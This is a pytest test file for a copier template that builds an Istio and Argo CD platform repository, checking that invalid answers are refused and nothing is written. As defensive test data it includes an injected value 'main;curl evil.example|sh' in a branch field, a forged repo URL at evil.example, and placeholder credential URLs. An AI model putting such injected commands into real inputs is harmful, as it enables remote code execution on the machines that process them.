"""copier itself rejects bad answers before anything is written, with a message naming the field.

Through the Python API a refusal is copier's ValueError; through the copier CLI it is one line on stderr and exit
code 1 (extensions/answer_refusal.py), which the last tests check with the real `copier` command.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from copier import run_copy, run_update

from tests.conftest import REPO, copy_platform, git, init_repo
from tests.test_team_onboarding import fingerprint, onboard

COPIER = Path(sys.executable).parent / "copier"

BAD_ANSWERS = [
    ({"clusters": [{"name": "Prod_EU", "network": "n", "api_server": "https://api.Prod_EU.example.com:6443"}]}, "clusters", "cluster 'Prod_EU': use a DNS-1123 label"),
    ({"clusters": []}, "clusters", "give at least one cluster"),
    ({"clusters": [{"name": "kube-system", "network": "n", "api_server": "https://api.kube-system.example.com:6443"}]}, "clusters", "reserved"),
    ({"istio_versions": ["1.31"]}, "istio_versions", "MAJOR.MINOR.PATCH"),
    ({"istio_versions": ["1.29.7", "1.30.4", "1.31.1", "1.31.0"]}, "istio_versions", "keep at most 3"),
    ({"istio_versions": ["1.29.7", "1.29.7"]}, "istio_versions", "listed twice"),
    ({"istio_versions": ["1.29.1", "1.30.4"]}, "istio_versions", "the oldest 1.29 release this template supports is 1.29.2"),
    (
        {"istio_versions": ["1.31.1"], "istio_revision_tags": [{"name": "prod-stable", "version": "1.30.4"}]},
        "istio_revision_tags",
        "not in istio_versions",
    ),
    ({"istio_default_tag": "prod-canary"}, "istio_default_tag", "must be one of the revision tags"),
    ({"gateway_revision": "1.30.4"}, "gateway_revision", "use a revision tag to follow"),
    ({"git_repo_url": "http://example.com/x.git"}, "git_repo_url", "plain http is refused"),
    ({"platform_name": "My Platform"}, "platform_name", "DNS-1123 label"),
    ({"egress_allowed_hosts": ["*.example.com"]}, "egress_allowed_hosts", "wildcards"),
    ({"trust_domain": "Cluster_Local"}, "trust_domain", "DNS-1123 subdomain"),
    # issue 11's measured bad inputs
    ({"git_repo_url": "https://bot:ghp_token@github.com/example-org/platform.git"}, "git_repo_url", "credentials in the URL"),
    ({"git_repo_url": "https://ghp_token@github.com/example-org/platform.git"}, "git_repo_url", "give the engine a credentials secret"),
    ({"git_repo_url": "https://github.com:99999/example-org/platform.git"}, "git_repo_url", "a port is a number from 1 to 65535"),
    ({"git_repo_url": "https://github.com/example-org/platform.git\n"}, "git_repo_url", "no spaces or control characters"),
    ({"git_branch": "main;curl evil.example|sh"}, "git_branch", "no spaces, shell characters"),
    ({"git_branch": "main\n"}, "git_branch", "use a valid branch name"),
    ({"argocd_namespace": "istio-system"}, "argocd_namespace", "belongs to Istio"),
    ({"argocd_namespace": "kube-system"}, "argocd_namespace", "belongs to Kubernetes"),
    ({"argocd_namespace": "istio-ingress"}, "argocd_namespace", "belongs to Istio"),
    ({"argocd_namespace": "example"}, "argocd_namespace", "belongs to the example app"),
    ({"argocd_namespace": "cert-manager"}, "argocd_namespace", "belongs to cert-manager"),
    ({"platform_name": "platform\n"}, "platform_name", "DNS-1123 label"),
    ({"mesh_id": "mesh\n"}, "mesh_id", "DNS-1123 label"),
    ({"trust_domain": "cluster.local\n"}, "trust_domain", "DNS-1123 subdomain"),
    ({"ingress_domain": "example.com\n"}, "ingress_domain", "DNS-1123 subdomain"),
    ({"clusters": [{"name": "cluster-1\n", "network": "n", "api_server": "https://api.cluster-1\n.example.com:6443"}]}, "clusters", "DNS-1123 label"),
    ({"cluster_admin_group": "system:authenticated"}, "cluster_admin_group", "system:* groups are Kubernetes' own"),
    ({"network_owner_group": "oidc:x@corp"}, "network_owner_group", "not team slugs"),
    ({"network_owner_group": "@example-org/network-owners"}, "network_owner_group", "give the team slug alone"),
    ({"cluster_admin_group": "platform-admins\n"}, "cluster_admin_group", "a team slug is lowercase letters"),
    ({"codeowners_org": "@example-org"}, "codeowners_org", "without '@'"),
    ({"egress_allowed_hosts": ["10.0.0.1"]}, "egress_allowed_hosts", "IP addresses and ranges"),
    ({"egress_allowed_hosts": ["10.0.0.0/8"]}, "egress_allowed_hosts", "IP addresses and ranges"),
    ({"egress_allowed_hosts": ["2001:db8::1"]}, "egress_allowed_hosts", "IP addresses and ranges"),
    ({"egress_allowed_hosts": ["web.payments.svc.cluster.local"]}, "egress_allowed_hosts", "in-cluster"),
    ({"egress_allowed_hosts": ["redis"]}, "egress_allowed_hosts", "single-label"),
    ({"egress_allowed_hosts": ["localhost"]}, "egress_allowed_hosts", "in-cluster or local"),
    ({"istio_versions": [" 1.31.1"]}, "istio_versions", "without 'v', spaces or leading zeros"),
    ({"istio_versions": ["1.31.01"]}, "istio_versions", "without 'v', spaces or leading zeros"),
    ({"istio_versions": ["v1.31.1"]}, "istio_versions", "without 'v', spaces or leading zeros"),
    ({"ca_mode": "vault", "ca_vault_server": "https://vault:99999"}, "ca_vault_server", "a port is a number from 1 to 65535"),
    ({"ca_mode": "vault", "ca_vault_server": "https://token@vault.example.com:8200"}, "ca_vault_server", "no credentials"),
    ({"ca_mode": "vault", "ca_vault_pki_path": "pki_int/root/sign-intermediate\n"}, "ca_vault_pki_path", "as Vault shows it"),
    ({"ca_mode": "aws-pca", "ca_aws_pca_arn": "arn:aws:acm-pca:eu-west-1:111122223333:certificate-authority/1111\n"},
     "ca_aws_pca_arn", "use the CA's ARN"),
    ({"external_authz_service": "ext-authz:9000"}, "external_authz_service", "<name>.<namespace>.svc.cluster.local:<port"),
    ({"external_authz_service": "authz.istio-system.svc.cluster.local:9000"}, "external_authz_service", "a namespace of its own"),
    (
        {"clusters": [{"name": "a", "network": "n1", "api_server": "https://api.a.example.com:6443"}, {"name": "b", "network": "n2", "api_server": "https://api.b.example.com:6443"}]},
        "clusters",
        "add 'eastwest' to gateways_enabled",
    ),
]


@pytest.mark.parametrize(("answers", "question", "message"), BAD_ANSWERS, ids=[f"{q}-{m}" for _, q, m in BAD_ANSWERS])
def test_bad_answer_is_refused_and_nothing_written(
    template_snapshot: Path, tmp_path: Path, answers: dict, question: str, message: str
) -> None:
    destination = tmp_path / "platform"
    with pytest.raises(Exception) as caught:
        run_copy(str(template_snapshot), destination, data=answers, defaults=True, unsafe=True, vcs_ref="HEAD", quiet=True)
    text = str(caught.value)
    assert f"Validation error for question '{question}'" in text
    assert message in text
    assert not destination.exists() or not any(destination.iterdir())


def test_defaults_alone_answer_everything(render) -> None:
    answers = yaml.safe_load((render({}) / ".copier-answers.yml").read_text())
    assert answers["gitops_engine"] == "argocd"
    assert answers["istio_versions"] == ["1.31.1"]
    assert answers["istio_revision_tags"] == [{"name": "prod-stable", "version": "1.31.1"}]
    assert answers["istio_default_tag"] == "prod-stable"
    assert answers["outbound_traffic_policy"] == "REGISTRY_ONLY"
    assert answers["clusters"][0]["name"] == "cluster-1"
    for computed in ("istio_revisions", "istio_default_revision", "istio_base_version", "gateway_target", "gateway_namespaces"):
        assert computed not in answers, "computed values must not be stored as answers"


def test_every_question_is_typed_with_help(template_snapshot: Path) -> None:
    config = yaml.safe_load((template_snapshot / "copier.yml").read_text())
    questions = {k: v for k, v in config.items() if not k.startswith("_")}
    for name, spec in questions.items():
        assert "type" in spec, name
        if spec.get("when") is not False:
            assert "?" in spec.get("help", ""), f"{name}: help should ask a question"
            assert "default" in spec or name == "team_name", f"{name}: --defaults must produce a complete repo"


# --- team scope: checked against the platform's actual answers and the teams already onboarded ---------------------


@pytest.fixture(scope="module")
def gitops_platform(template_snapshot: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Argo CD in `gitops` (not `argocd`), two clusters (so external-secrets runs), team alpha owns namespaces alpha
    and checkout and routes shop.example.com."""
    project = copy_platform(template_snapshot, tmp_path_factory.mktemp("gitops") / "repo",
                            {"argocd_namespace": "gitops",
                             "clusters": [{"name": "eu-1", "network": "n", "api_server": "https://api.eu-1.example.com:6443"}, {"name": "us-1", "network": "n", "api_server": "https://api.us-1.example.com:6443"}]})
    init_repo(project, "platform")
    onboard(template_snapshot, project, "alpha", team_namespaces=["alpha", "checkout"],
            team_ingress_routes=[{"host": "shop.example.com", "service": "web", "port": 8080}])
    return project


def snapshot_of(project: Path) -> dict:
    return json.loads(subprocess.run([sys.executable, str(REPO / "hooks/team_folders.py"), "--snapshot",
                                      str(project / ".copier-answers.yml")], check=True, capture_output=True, text=True).stdout)


BAD_TEAMS = [
    ({"team_name": "gitops"}, "team_name", "reserved for the platform (a namespace of Argo CD)"),
    ({"team_name": "external-secrets"}, "team_name", "reserved for the platform (a namespace of external-secrets"),
    ({"team_name": "payments\n"}, "team_name", "DNS-1123 label"),
    ({"team_namespaces": ["gitops"]}, "team_namespaces", "belongs to the platform (Argo CD)"),
    ({"team_name": "checkout"}, "team_namespaces", "namespace 'checkout' is already owned by team 'alpha'"),
    ({"team_namespaces": ["istio-ingress"]}, "team_namespaces", "belongs to the platform (Istio"),
    ({"team_namespaces": ["cert-manager"]}, "team_namespaces", "belongs to the platform (cert-manager"),
    ({"team_namespaces": ["example"]}, "team_namespaces", "belongs to the platform (the example app"),
    ({"team_ingress_routes": [{"host": "shop.example.com", "service": "api", "port": 80}]}, "team_ingress_routes",
     "ingress host 'shop.example.com' is already routed to team 'alpha'"),
    ({"team_owners_group": "system:authenticated"}, "team_owners_group", "system:* groups are Kubernetes' own"),
    ({"team_owners_group": "oidc:payments@corp"}, "team_owners_group", "not team slugs"),
    ({"team_egress_hosts": ["kubernetes.default.svc"]}, "team_egress_hosts", "in-cluster"),
    ({"team_egress_hosts": ["140.82.112.6"]}, "team_egress_hosts", "IP addresses and ranges"),
    ({"team_platform": {"clusters": ["eu-1", "ap-1"], "istio_revision_tags": [{"name": "prod-stable", "version": "1.31.1"}]}},
     "team_platform", "differ(s) from the platform's .copier-answers.yml"),
]


@pytest.mark.parametrize(("answers", "question", "message"), BAD_TEAMS, ids=[f"{q}-{m}" for _, q, m in BAD_TEAMS])
def test_bad_team_answer_is_refused_and_nothing_written(template_snapshot: Path, gitops_platform: Path, answers: dict,
                                                         question: str, message: str) -> None:
    before = fingerprint(gitops_platform, ("",))
    with pytest.raises(ValueError) as caught:
        run_copy(str(template_snapshot), gitops_platform, data={"scope": "team", "team_name": "beta", **answers},
                 defaults=True, unsafe=True, vcs_ref="HEAD", quiet=True, overwrite=True)
    assert f"Validation error for question '{question}'" in str(caught.value)
    assert message in str(caught.value)
    assert fingerprint(gitops_platform, ("",)) == before, "nothing written"


def test_forged_team_platform_is_refused_and_copied_platform_passes(template_snapshot: Path, gitops_platform: Path,
                                                                    tmp_path: Path) -> None:
    """A forged snapshot (repo URL outside the platform) is refused; the platform's own, as --snapshot prints it, passes."""
    project = tmp_path / "repo"
    shutil.copytree(gitops_platform, project)
    forged = {**snapshot_of(project), "git_repo_url": "https://evil.example/x.git"}
    with pytest.raises(ValueError, match=r"team_platform: git_repo_url differ\(s\) from the platform's"):
        run_copy(str(template_snapshot), project, data={"scope": "team", "team_name": "beta", "team_platform": forged},
                 defaults=True, unsafe=True, vcs_ref="HEAD", quiet=True, overwrite=True)
    onboard(template_snapshot, project, "beta", team_platform=snapshot_of(project))
    answers = yaml.safe_load((project / ".copier/team-beta.yml").read_text())
    assert answers["team_platform"]["argocd_namespace"] == "gitops"


def test_forged_team_platform_in_an_update_is_refused(template_snapshot: Path, gitops_platform: Path, tmp_path: Path) -> None:
    project = tmp_path / "repo"
    shutil.copytree(gitops_platform, project)
    forged = {**snapshot_of(project), "clusters": ["eu-1", "us-1", "ap-1"]}
    with pytest.raises(ValueError, match=r"team_platform: clusters differ\(s\)"):
        run_update(project, answers_file=".copier/team-alpha.yml", data={"team_platform": forged}, defaults=True,
                   overwrite=True, unsafe=True, quiet=True, vcs_ref="HEAD")
    assert git(project, "status", "--porcelain") == "", "nothing written"
    run_update(project, answers_file=".copier/team-alpha.yml", data={"team_platform": snapshot_of(project)},
               defaults=True, overwrite=True, unsafe=True, quiet=True, vcs_ref="HEAD")


def test_onboarding_into_uncommitted_changes_is_refused(template_snapshot: Path, gitops_platform: Path, tmp_path: Path) -> None:
    project = tmp_path / "repo"
    shutil.copytree(gitops_platform, project)
    (project / "mesh" / "notes.md").write_text("work in progress\n")
    before = fingerprint(project, ("",))
    with pytest.raises(ValueError, match=r"team_name 'beta': the platform repo has uncommitted changes \(mesh/notes.md\)"):
        run_copy(str(template_snapshot), project, data={"scope": "team", "team_name": "beta"}, defaults=True,
                 unsafe=True, vcs_ref="HEAD", quiet=True, overwrite=True)
    assert fingerprint(project, ("",)) == before


def test_readme_commands_quote_the_answers(render) -> None:
    readme = (render({"gitops_engine": "flux", "git_repo_url": "ssh://git@git.example.com/~platform/repo.git"})
              / "README.md").read_text()
    assert "flux bootstrap git --url='ssh://git@git.example.com/~platform/repo.git' --branch=main --path=clusters/cluster-1" in readme


# --- the copier CLI: one line, exit code 1, nothing written ---------------------------------------------------------


def copier_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_COLOR": "1"}
    return subprocess.run([str(COPIER), *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=120)


CLI_CASES = [
    ("git_repo_url=https://bot:ghp_token@github.com/example-org/platform.git",
     "Validation error for question 'git_repo_url': git_repo_url 'https://***@github.com/example-org/platform.git': "
     "credentials in the URL would be copied into the answers file and every generated Application or GitRepository. "
     "Fix: answer https://github.com/example-org/platform.git and give the engine a credentials secret instead (Argo CD: "
     "a repository secret; Flux: the GitRepository's secretRef)"),
    ("istio_versions=[' 1.31.1']",
     "Validation error for question 'istio_versions': istio_versions: ' 1.31.1': write a release as MAJOR.MINOR.PATCH, "
     "without 'v', spaces or leading zeros, e.g. 1.31.1"),
]


@pytest.mark.parametrize(("data", "message"), CLI_CASES, ids=["git_repo_url", "istio_versions"])
def test_cli_refusal_is_one_line_without_traceback(template_snapshot: Path, tmp_path: Path, data: str, message: str) -> None:
    done = copier_cli("copy", "--trust", "--defaults", "--vcs-ref=HEAD", "--data", data, str(template_snapshot), "platform",
                      cwd=tmp_path)
    assert done.returncode == 1
    assert done.stderr == message + "\n"
    assert "Traceback" not in done.stderr and "ghp_token" not in done.stderr + done.stdout
    assert not (tmp_path / "platform").exists() or not any((tmp_path / "platform").iterdir())


def test_cli_team_refusals_are_one_line(template_snapshot: Path, gitops_platform: Path, tmp_path: Path) -> None:
    project = tmp_path / "repo"
    shutil.copytree(gitops_platform, project)
    before = fingerprint(project, ("",))
    done = copier_cli("copy", "--trust", "--defaults", "--vcs-ref=HEAD", "--overwrite", "--data", "scope=team",
                      "--data", "team_name=beta", "--data", "team_namespaces=[gitops]", str(template_snapshot), ".", cwd=project)
    assert (done.returncode, done.stderr) == (1, "Validation error for question 'team_namespaces': namespace 'gitops' "
                                                 "belongs to the platform (Argo CD); choose a namespace of the team's own\n")
    done = copier_cli("update", "--trust", "--defaults", "--vcs-ref=HEAD", "-a", ".copier/team-alpha.yml",
                      "--data", "team_platform={clusters: [eu-1], istio_revision_tags: [{name: x, version: 1.31.1}]}", cwd=project)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    *copier_says, refusal = done.stderr.splitlines()
    narrowing = " > Running task 1 of 2: ["  # copier announces the index narrowing step (docs/update.md)
    assert copier_says[0] == "Keeping template version 1000.0.0", "copier's own line, and no warning"
    assert len(copier_says) == 2 and copier_says[1].startswith(narrowing) and "team_update_narrowing.py" in copier_says[1]
    assert refusal.startswith("Validation error for question 'team_platform': team_platform: argocd_namespace, clusters,")
    done = copier_cli("copy", "--trust", "--defaults", "--vcs-ref=HEAD", "--overwrite", "--data", "scope=team",
                      "--data", "team_name=checkout", str(template_snapshot), ".", cwd=project)
    assert (done.returncode, done.stderr) == (1, "Validation error for question 'team_namespaces': namespace 'checkout' "
                                                 "is already owned by team 'alpha'; choose another\n"), "a default under --defaults"
    assert fingerprint(project, ("",)) == before, "nothing written"
